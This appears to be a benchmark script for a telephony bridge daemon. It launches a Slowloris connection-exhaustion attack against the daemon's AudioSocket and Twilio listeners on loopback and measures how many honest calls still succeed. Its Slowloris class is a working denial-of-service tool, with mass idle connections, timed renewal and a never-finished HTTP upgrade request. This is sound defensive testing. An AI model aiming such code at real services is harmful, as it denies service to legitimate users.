"""Slowloris against the call-leg listeners, and new calls placed meanwhile.

The attacker-style finding this answers: 1,100 idle TCP connections from one address,
each one the daemon closes replaced at about 13 per second, made 39 of 40 new
AudioSocket calls and 38 of 40 Twilio calls fail while the pending-connection limit
(64 per listener) was global. 13/s is no accident: 64 pending slots freed by a 5 s
handshake timeout is 12.8 slots a second, so an attacker that refills at that rate
keeps the table full and every honest caller finds it so.

The attacker (:class:`Slowloris`) binds its sockets to one loopback address (Linux
routes all of 127/8 to lo, so 127.0.0.2 is a peer of its own); the honest callers
bind to another. ``python -m bench.slowloris`` runs the real daemon as a process (from
this tree, or ``BENCH_BRIDGE_SRC`` for an A/B) and reports, per listener: calls placed
and failed, their setup time, the daemon's fds and CPU, the admission counters and how
many WARNING lines the daemon wrote. ``tests/daemon/test_admission.py`` runs a small
version against an in-process daemon.
"""

from __future__ import annotations

import argparse
import errno
import json
import os
import sys
import time
import uuid
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import trio

from bridge import TransportError
from bridge.dialects import Audio, Connected, Start
from bridge.dialects._audiosocket import AudioSocketPlatform
from bridge.dialects._twilio import TwilioPlatform
from bridge.transports import open_websocket_client

#: Half of the WebSocket attacker's connections send this and stop (a request that
#: never ends), the other half nothing at all.
PARTIAL_REQUEST = b"GET /twilio HTTP/1.1\r\nHost: bridge\r\nUpgrade: websocket\r\n"


async def open_idle(
    source: str, host: str, port: int, payload: bytes = b""
) -> trio.socket.SocketType:
    """A TCP connection from ``source`` that sends ``payload`` (maybe nothing) and then
    nothing more."""
    sock = trio.socket.socket()
    try:
        await sock.bind((source, 0))
        await sock.connect((host, port))
        if payload:
            await sock.send(payload)
    except BaseException:
        sock.close()
        raise
    return sock


class Slowloris:
    """Keeps ``idle`` connections from ``source`` open, topping up at most
    ``renew_per_s`` a second. A connection the server closes after holding it for
    ``HELD_S`` or more had a pending slot until its handshake timeout ran out: it is
    replaced at once, so the slot it freed goes straight back to the attacker (that is
    how 13 renewals a second keep 64 slots with a 5 s timeout full)."""

    HELD_S = 0.5

    def __init__(self, source: str, host: str, port: int, *, idle: int, renew_per_s: float,
                 payloads: tuple[bytes, ...] = (b"",)) -> None:  # fmt: skip
        self.source, self.host, self.port = source, host, port
        self.idle = idle
        self.renew_per_s = renew_per_s
        self.payloads = payloads
        self.attempts = 0
        self.opened = 0
        self.closed_by_server = 0
        self.renewed_at_once = 0
        self.connect_errors = 0
        self._live: dict[trio.socket.SocketType, float] = {}

    async def _open(self, nursery: trio.Nursery) -> None:
        payload = self.payloads[self.attempts % len(self.payloads)]
        self.attempts += 1
        try:
            sock = await open_idle(self.source, self.host, self.port, payload)
        except OSError:
            # Mostly ECONNRESET: the server reset it at accept before connect() returned.
            self.connect_errors += 1
            return
        self.opened += 1
        self._live[sock] = trio.current_time()
        nursery.start_soon(self._watch, sock, nursery)

    async def _watch(self, sock: trio.socket.SocketType, nursery: trio.Nursery) -> None:
        """Notice when the server closes (FIN or RST) this connection."""
        try:
            await trio.lowlevel.wait_readable(sock)
        except trio.ClosedResourceError:
            return
        opened_at = self._live.pop(sock, None)
        sock.close()
        if opened_at is None:
            return
        self.closed_by_server += 1
        if trio.current_time() - opened_at >= self.HELD_S:
            self.renewed_at_once += 1
            nursery.start_soon(self._open, nursery)

    async def run(self, *, task_status: trio.TaskStatus[None] = trio.TASK_STATUS_IGNORED) -> None:
        """Open every connection, report started, then keep renewing until cancelled."""
        async with trio.open_nursery() as nursery:
            try:
                for _ in range(self.idle):
                    await self._open(nursery)
                task_status.started()
                interval = 1.0 / self.renew_per_s
                next_at = trio.current_time()
                while True:
                    next_at = max(next_at + interval, trio.current_time())
                    await trio.sleep_until(next_at)
                    if len(self._live) < self.idle:
                        await self._open(nursery)
            finally:
                for sock in self._live:
                    sock.close()
                nursery.cancel_scope.cancel()

    def stats(self) -> dict[str, int]:
        return {
            "attempts": self.attempts,
            "opened": self.opened,
            "closed_by_server": self.closed_by_server,
            "renewed_at_once": self.renewed_at_once,
            "connect_errors": self.connect_errors,
            "held": len(self._live),
        }


# ------------------------------------------------------------------------ honest calls


def _tone(n: int) -> bytes:
    return (800 + 100 * (n % 20)).to_bytes(2, "little", signed=True) * 160


async def audiosocket_call(
    host: str, port: int, source: str, *, timeout_s: float = 5.0
) -> str | None:
    """One call: the UUID, three frames, and an echoed frame back. None if it worked,
    else what went wrong."""
    dialect = AudioSocketPlatform(str(uuid.uuid4()), 8000)
    try:
        with trio.fail_after(timeout_s):
            stream = await trio.open_tcp_stream(host, port, local_address=source)
            async with stream:
                for message in dialect.send(dialect.start_event()):
                    await stream.send_all(message)  # type: ignore[arg-type]
                for n in range(3):
                    await stream.send_all(dialect.send_audio(_tone(n)))  # type: ignore[arg-type]
                while True:
                    data = await stream.receive_some(65536)
                    if not data:
                        return "closed by bridge before any audio came back"
                    if any(
                        isinstance(e, Audio) and any(e.frame.pcm) for e in dialect.receive(data)
                    ):
                        return None
    except trio.TooSlowError:
        return f"no echo within {timeout_s:g}s"
    except (OSError, trio.BrokenResourceError) as exc:
        return f"{type(exc).__name__}: {exc}"


async def twilio_call(host: str, port: int, source: str, *, timeout_s: float = 5.0) -> str | None:
    """One Twilio-format media stream: connected, start, three frames, a media back."""
    sid = f"MZ{os.urandom(8).hex()}"
    twilio = TwilioPlatform(sid, f"CA{os.urandom(8).hex()}", "AC1")
    try:
        with trio.fail_after(timeout_s):
            async with open_websocket_client(
                f"ws://{host}:{port}/twilio", local_address=source, ping_interval_s=None
            ) as ws:
                for event in (Connected(), Start(sid, twilio.call_sid)):
                    for message in twilio.send(event):
                        await ws.send(message)
                for n in range(3):
                    await ws.send(twilio.send_audio(_tone(n)))
                while True:
                    events = twilio.receive(await ws.receive())
                    if any(isinstance(e, Audio) and any(e.frame.pcm) for e in events):
                        return None
    except trio.TooSlowError:
        return f"no echo within {timeout_s:g}s"
    except (TransportError, OSError) as exc:
        return f"{type(exc).__name__}: {exc}"


async def place_calls(
    call: Callable[[], Awaitable[str | None]], n: int, *, concurrency: int = 8
) -> list[tuple[str | None, float]]:
    """``n`` calls, ``concurrency`` at a time: (failure or None, setup seconds) each."""
    results: list[tuple[str | None, float]] = []
    limiter = trio.CapacityLimiter(concurrency)

    async def one() -> None:
        async with limiter:
            t0 = time.monotonic()
            failure = await call()
            results.append((failure, time.monotonic() - t0))

    async with trio.open_nursery() as nursery:
        for _ in range(n):
            nursery.start_soon(one)
    return results


# ---------------------------------------------------------------------- the big run


def _config(path: Path, *, admin: int, as_port: int, ws_port: int, extra: dict[str, str]) -> Path:
    path.write_text(f"""[daemon]
log_level = "info"
log_format = "json"

[admin]
listen = "127.0.0.1:{admin}"

[audiosocket]
listen = "127.0.0.1:{as_port}"
{extra.get("audiosocket", "")}

[websocket]
listen = "127.0.0.1:{ws_port}"
{extra.get("websocket", "")}

[rtp]
ports = "47000-47009"

[records]
path = "{path.with_suffix(".sqlite3")}"

[[routes]]
name = "as-echo"
match = {{ listener = "audiosocket" }}
app = {{ url = "echo:", encapsulation = "sln" }}

[[routes]]
name = "twilio-echo"
match = {{ listener = "websocket", path = "/twilio" }}
carrier = "twilio"
app = {{ url = "echo:", encapsulation = "sln" }}
""")
    return path


async def _attack_and_call(
    listener: str, port: int, args: argparse.Namespace, pid: int
) -> dict[str, Any]:
    from bench import _procs

    payloads = (b"", PARTIAL_REQUEST) if listener == "websocket" else (b"",)
    attacker = Slowloris("127.0.0.2", "127.0.0.1", port, idle=args.idle,
                         renew_per_s=args.renew_per_s, payloads=payloads)  # fmt: skip
    call = audiosocket_call if listener == "audiosocket" else twilio_call
    async with trio.open_nursery() as nursery:
        t0 = time.monotonic()
        await nursery.start(attacker.run)
        opened_s = time.monotonic() - t0
        # Let the handshake timeouts (5 s) turn over once, so the renewal is in its
        # steady state (the pending table as full as the attacker can keep it).
        await trio.sleep(args.warmup_s)
        results = await place_calls(
            lambda: call("127.0.0.1", port, "127.0.0.3"), args.calls, concurrency=args.concurrency
        )
        stats = attacker.stats()
        fds = _procs.fd_count(pid)
        nursery.cancel_scope.cancel()
    failures = [f for f, _ in results if f is not None]
    setup = sorted(t for _, t in results)
    return {
        "listener": listener,
        "attacker": {**stats, "open_all_s": round(opened_s, 2)},
        "calls": len(results),
        "calls_ok": len(results) - len(failures),
        "failures": sorted(set(failures)),
        "setup_p50_ms": round(setup[len(setup) // 2] * 1000, 1),
        "setup_max_ms": round(setup[-1] * 1000, 1),
        "daemon_fds_under_attack": fds,
    }


def main() -> None:
    from bench import _procs

    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--idle", type=int, default=1100)
    parser.add_argument("--renew-per-s", type=float, default=13.0)
    parser.add_argument("--calls", type=int, default=40)
    parser.add_argument("--concurrency", type=int, default=4)
    parser.add_argument("--warmup-s", type=float, default=6.0)
    parser.add_argument("--audiosocket", default="", help="extra [audiosocket] lines")
    parser.add_argument("--websocket", default="", help="extra [websocket] lines")
    parser.add_argument("--label", default="")
    parser.add_argument("--keep", action="store_true", help="keep the work directory (logs)")
    args = parser.parse_args()

    out: dict[str, Any] = {
        "label": args.label,
        "args": vars(args),
        "bridge_src": os.environ.get("BENCH_BRIDGE_SRC", ""),
    }
    with _procs.workdir("bridge-slowloris-", keep=args.keep) as work:
        print(f"work directory {work}", file=sys.stderr)
        admin, as_port, ws_port = _procs.free_port(), _procs.free_port(), _procs.free_port()
        config = _config(work / "bridge.toml", admin=admin, as_port=as_port, ws_port=ws_port,
                         extra={"audiosocket": args.audiosocket, "websocket": args.websocket})  # fmt: skip
        bridge = _procs.Bridge("bridge", config, admin, work)
        try:
            if not _procs.wait_until(
                lambda: _try(lambda: _procs.http_text(bridge.admin + "/readyz")), 15
            ):
                raise SystemExit(f"bridge did not become ready; see {work}")
            if not bridge.alive():  # readyz answered by someone else on that port
                raise SystemExit(f"bridge exited ({bridge.returncode}):\n{bridge.stderr()[-3000:]}")
            pid = bridge.pid
            out["fd_limit"] = _nofile(pid)
            for listener, port in (("audiosocket", as_port), ("websocket", ws_port)):
                cpu0, fds0 = _procs.cpu_s(pid), _procs.fd_count(pid)
                t0 = time.monotonic()
                result = trio.run(_attack_and_call, listener, port, args, pid)
                result["daemon_cpu_s"] = round(_procs.cpu_s(pid) - cpu0, 2)
                result["wall_s"] = round(time.monotonic() - t0, 1)
                result["daemon_fds_before"] = fds0
                out[listener] = result
            if not bridge.alive():
                raise SystemExit(f"bridge exited ({bridge.returncode}):\n{bridge.stderr()[-3000:]}")
            metrics = _procs.http_text(bridge.admin + "/metrics")
            out["metrics"] = {
                line.split(" ")[0]: float(line.split(" ")[1])
                for line in metrics.splitlines()
                if line.startswith(
                    (
                        "bridge_admission_refused_total",
                        "bridge_bad_input_total",
                        "bridge_streams_refused_total",
                    )
                )
            }
        finally:
            bridge.stop()
        out["log_lines"] = _log_summary(work)
    print(json.dumps(out, indent=2))
    _procs.save_json(f"slowloris{'-' + args.label if args.label else ''}", out)


def _try(fn: Callable[[], object]) -> bool:
    try:
        fn()
    except Exception:
        return False
    return True


def _nofile(pid: int) -> str:
    with open(f"/proc/{pid}/limits") as f:
        for line in f:
            if line.startswith("Max open files"):
                return " ".join(line.split()[3:5])
    return "?"


def _log_summary(work: Path) -> dict[str, int]:
    """WARNING lines the daemon wrote, by message head."""
    counts: dict[str, int] = {}
    for path in (*work.glob("bridge*.err"), *work.glob("bridge*.out")):
        for line in path.read_text(errors="replace").splitlines():
            try:
                record = json.loads(line)
            except ValueError:
                continue
            if record.get("level") != "warning":
                continue
            # By what the line is about (kind/reason), not its text (which names a peer).
            msg = str(record.get("msg", ""))
            what = (
                "summary"
                if msg.startswith("suppressed ")
                else record.get("kind") or record.get("reason") or msg[:40]
            )
            counts[str(what)] = counts.get(str(what), 0) + 1
    return counts


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        sys.exit(130)
    except OSError as exc:
        if exc.errno == errno.EMFILE:
            sys.exit("out of file descriptors: raise ulimit -n")
        raise


__all__ = ["PARTIAL_REQUEST", "Slowloris", "audiosocket_call", "open_idle", "place_calls",
           "twilio_call"]  # fmt: skip
